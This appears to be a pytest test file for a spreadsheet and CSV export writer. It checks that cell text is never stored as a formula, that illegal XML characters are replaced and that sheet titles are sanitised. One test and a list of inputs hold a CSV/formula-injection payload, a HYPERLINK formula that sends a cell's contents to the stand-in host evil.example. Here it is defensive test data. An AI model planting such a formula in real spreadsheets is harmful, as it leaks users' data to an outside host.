"""The export writer: whatever text goes in comes back as the same text, never as a formula —
read by openpyxl, and after LibreOffice re-saves the file."""

import datetime
import io
import shutil
import subprocess
import zipfile
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from recovery.core.xlsx import Sheet, safe_sheet_title, workbook_bytes

AWKWARD_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\x0b", "'", " "]


def expected_text(text: str) -> str | None:
    """What the writer promises to give back, worked out by hand from XML 1.0's character rule:
    every character XML can carry unchanged, every other one as U+FFFD; empty text is an empty
    cell."""
    out = []
    for ch in text:
        code = ord(ch)
        allowed = (
            ch in "\t\n\r"
            or 0x20 <= code <= 0xD7FF
            or 0xE000 <= code <= 0xFFFD
            or 0x10000 <= code <= 0x10FFFF
        )
        out.append(ch if allowed else "\N{REPLACEMENT CHARACTER}")
    return "".join(out) or None


def write_and_read(values: list[object], title: str = "Sheet") -> tuple[bytes, list]:
    data = workbook_bytes([Sheet(title, ["Text"], [[v] for v in values])])
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    return data, [row[0] for row in ws.iter_rows(min_row=2, max_row=len(values) + 1)]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


awkward_text = st.one_of(
    st.text(),
    st.tuples(st.sampled_from(AWKWARD_STARTS), st.text()).map("".join),
    st.text(alphabet=st.characters(max_codepoint=0x7F)),
)


@settings(max_examples=80, deadline=None)
@given(st.lists(awkward_text, min_size=1, max_size=8))
def test_any_text_reads_back_as_the_same_text_and_never_as_a_formula(texts):
    data, cells = write_and_read(texts)

    assert [c.value for c in cells] == [expected_text(t) for t in texts]
    assert all(c.data_type != "f" for c in cells)
    assert "<f>" not in sheet_xml(data)


def test_a_unit_renamed_to_a_formula_is_exported_as_text():
    evil = '=HYPERLINK("https://evil.example/?leak="&B2,"Open")'

    data, [cell] = write_and_read([evil])

    assert cell.value == evil
    assert cell.data_type == "s"
    assert cell.quotePrefix is True
    xml = sheet_xml(data)
    assert '<c r="A2" s="' in xml and 't="inlineStr"' in xml
    assert "<f>" not in xml and "HYPERLINK(&quot;" not in xml.split("<is>")[0]


def test_a_vertical_tab_is_replaced_visibly_instead_of_failing_the_export():
    _, [cell] = write_and_read(["Line one\x0bline two"])

    assert cell.value == "Line one\N{REPLACEMENT CHARACTER}line two"


def test_characters_xml_cannot_hold_beyond_the_controls_are_replaced_too():
    _, cells = write_and_read(["lone \ud800 surrogate", "non-character \ufffe\uffff"])

    assert [c.value for c in cells] == [
        "lone \N{REPLACEMENT CHARACTER} surrogate",
        "non-character \N{REPLACEMENT CHARACTER}\N{REPLACEMENT CHARACTER}",
    ]


def test_text_longer_than_a_cell_holds_is_cut_with_a_visible_mark():
    _, [cell] = write_and_read(["x" * 40_000])

    assert len(cell.value) == 32_767
    assert cell.value.endswith("x…")


def test_values_keep_their_types():
    moment = datetime.datetime(2026, 3, 1, 9, 30, tzinfo=datetime.UTC)
    values = [7, 2.5, Decimal("1.25"), True, datetime.date(2026, 3, 1), moment, float("nan")]

    _, cells = write_and_read(values)

    assert [c.value for c in cells[:5]] == [7, 2.5, 1.25, True, datetime.datetime(2026, 3, 1)]
    # A timezone-aware moment is written in UK local time (GMT in March), not refused.
    assert cells[5].value == datetime.datetime(2026, 3, 1, 9, 30)
    assert cells[6].value == "nan" and cells[6].data_type == "s"


@pytest.mark.parametrize(
    ("title", "safe"),
    [
        ("Beds/Cambs & Norfolk", "Beds-Cambs & Norfolk"),
        ("[Q1]: what? *all*", "-Q1-- what- -all-"),
        ("A\\B", "A-B"),
        ("'quoted'", "quoted"),
        ("   ", "Sheet"),
        ("", "Sheet"),
        ("Tab\there\x0b", "Tab here"),
        ("A very long prison group name that goes on", "A very long prison group name t"),
    ],
)
def test_sheet_titles_are_made_safe(title, safe):
    assert safe_sheet_title(title) == safe


def test_sheet_titles_are_unique_ignoring_case():
    data = workbook_bytes(
        [Sheet("Establishments", ["A"], []), Sheet("ESTABLISHMENTS", ["A"], [])]
        + [Sheet("A very long prison group name that goes on", ["A"], [])] * 2
    )

    assert load_workbook(io.BytesIO(data)).sheetnames == [
        "Establishments",
        "ESTABLISHMENTS (2)",
        "A very long prison group name t",
        "A very long prison group na (2)",
    ]


# Every class of awkward text, the way a LibreOffice user would meet it. LibreOffice turns a
# carriage return + line feed into one line feed (still one line break), so that pair is left
# out; a lone carriage return is kept.
LIBREOFFICE_TEXTS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?leak="&B2,"Open")',
    "+44 20 7946 0000",
    "-5",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "first\rsecond",
    "first\nsecond",
    "'quoted",
    " leading and trailing ",
    "<b>&amp;</b>",
    "_x0041_",
    "Ŵrecsam — HMP Ŷ 🚀 東京",
    "00123",
    "1e5",
    "TRUE",
    "2020-02-30",
    "=",
]


@pytest.mark.skipif(
    shutil.which("soffice") is None,
    reason="LibreOffice (soffice) is not installed: `make test` installs Debian's "
    "libreoffice-calc with scripts/ensure_libreoffice.py; without apt it cannot",
)
def test_text_is_unchanged_after_libreoffice_resaves_the_export(tmp_path):
    texts = [*LIBREOFFICE_TEXTS, "bad\x0bchar"]
    source = tmp_path / "export.xlsx"
    source.write_bytes(
        workbook_bytes([Sheet("Beds/Cambs & Norfolk", ["Name"], [[t] for t in texts])])
    )
    out = tmp_path / "resaved"

    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )

    workbook = load_workbook(out / "export.xlsx")
    assert workbook.sheetnames == ["Beds-Cambs & Norfolk"]
    cells = [row[0] for row in workbook.worksheets[0].iter_rows(min_row=2)]
    assert [c.value for c in cells] == [*LIBREOFFICE_TEXTS, "bad\N{REPLACEMENT CHARACTER}char"]
    assert all(c.data_type == "s" for c in cells)


# --- CSV through the same rules (added with backlog releases) -------------------------------


def test_csv_keeps_formula_looking_text_as_text_and_writes_values_plainly():
    import datetime as _dt
    from decimal import Decimal as _D

    from recovery.core.xlsx import Sheet as _Sheet
    from recovery.core.xlsx import csv_bytes

    data = csv_bytes(
        _Sheet(
            "Figures",
            ["Name", "Value", "On", "Revised"],
            [["=1+1", _D("12.5"), _dt.date(2026, 10, 5), True], ["-3 cases", None, None, False]],
        )
    )

    assert data.startswith("\ufeff".encode())
    assert data.decode("utf-8-sig") == (
        "Name,Value,On,Revised\r\n'=1+1,12.5,2026-10-05,Yes\r\n'-3 cases,,,No\r\n"
    )
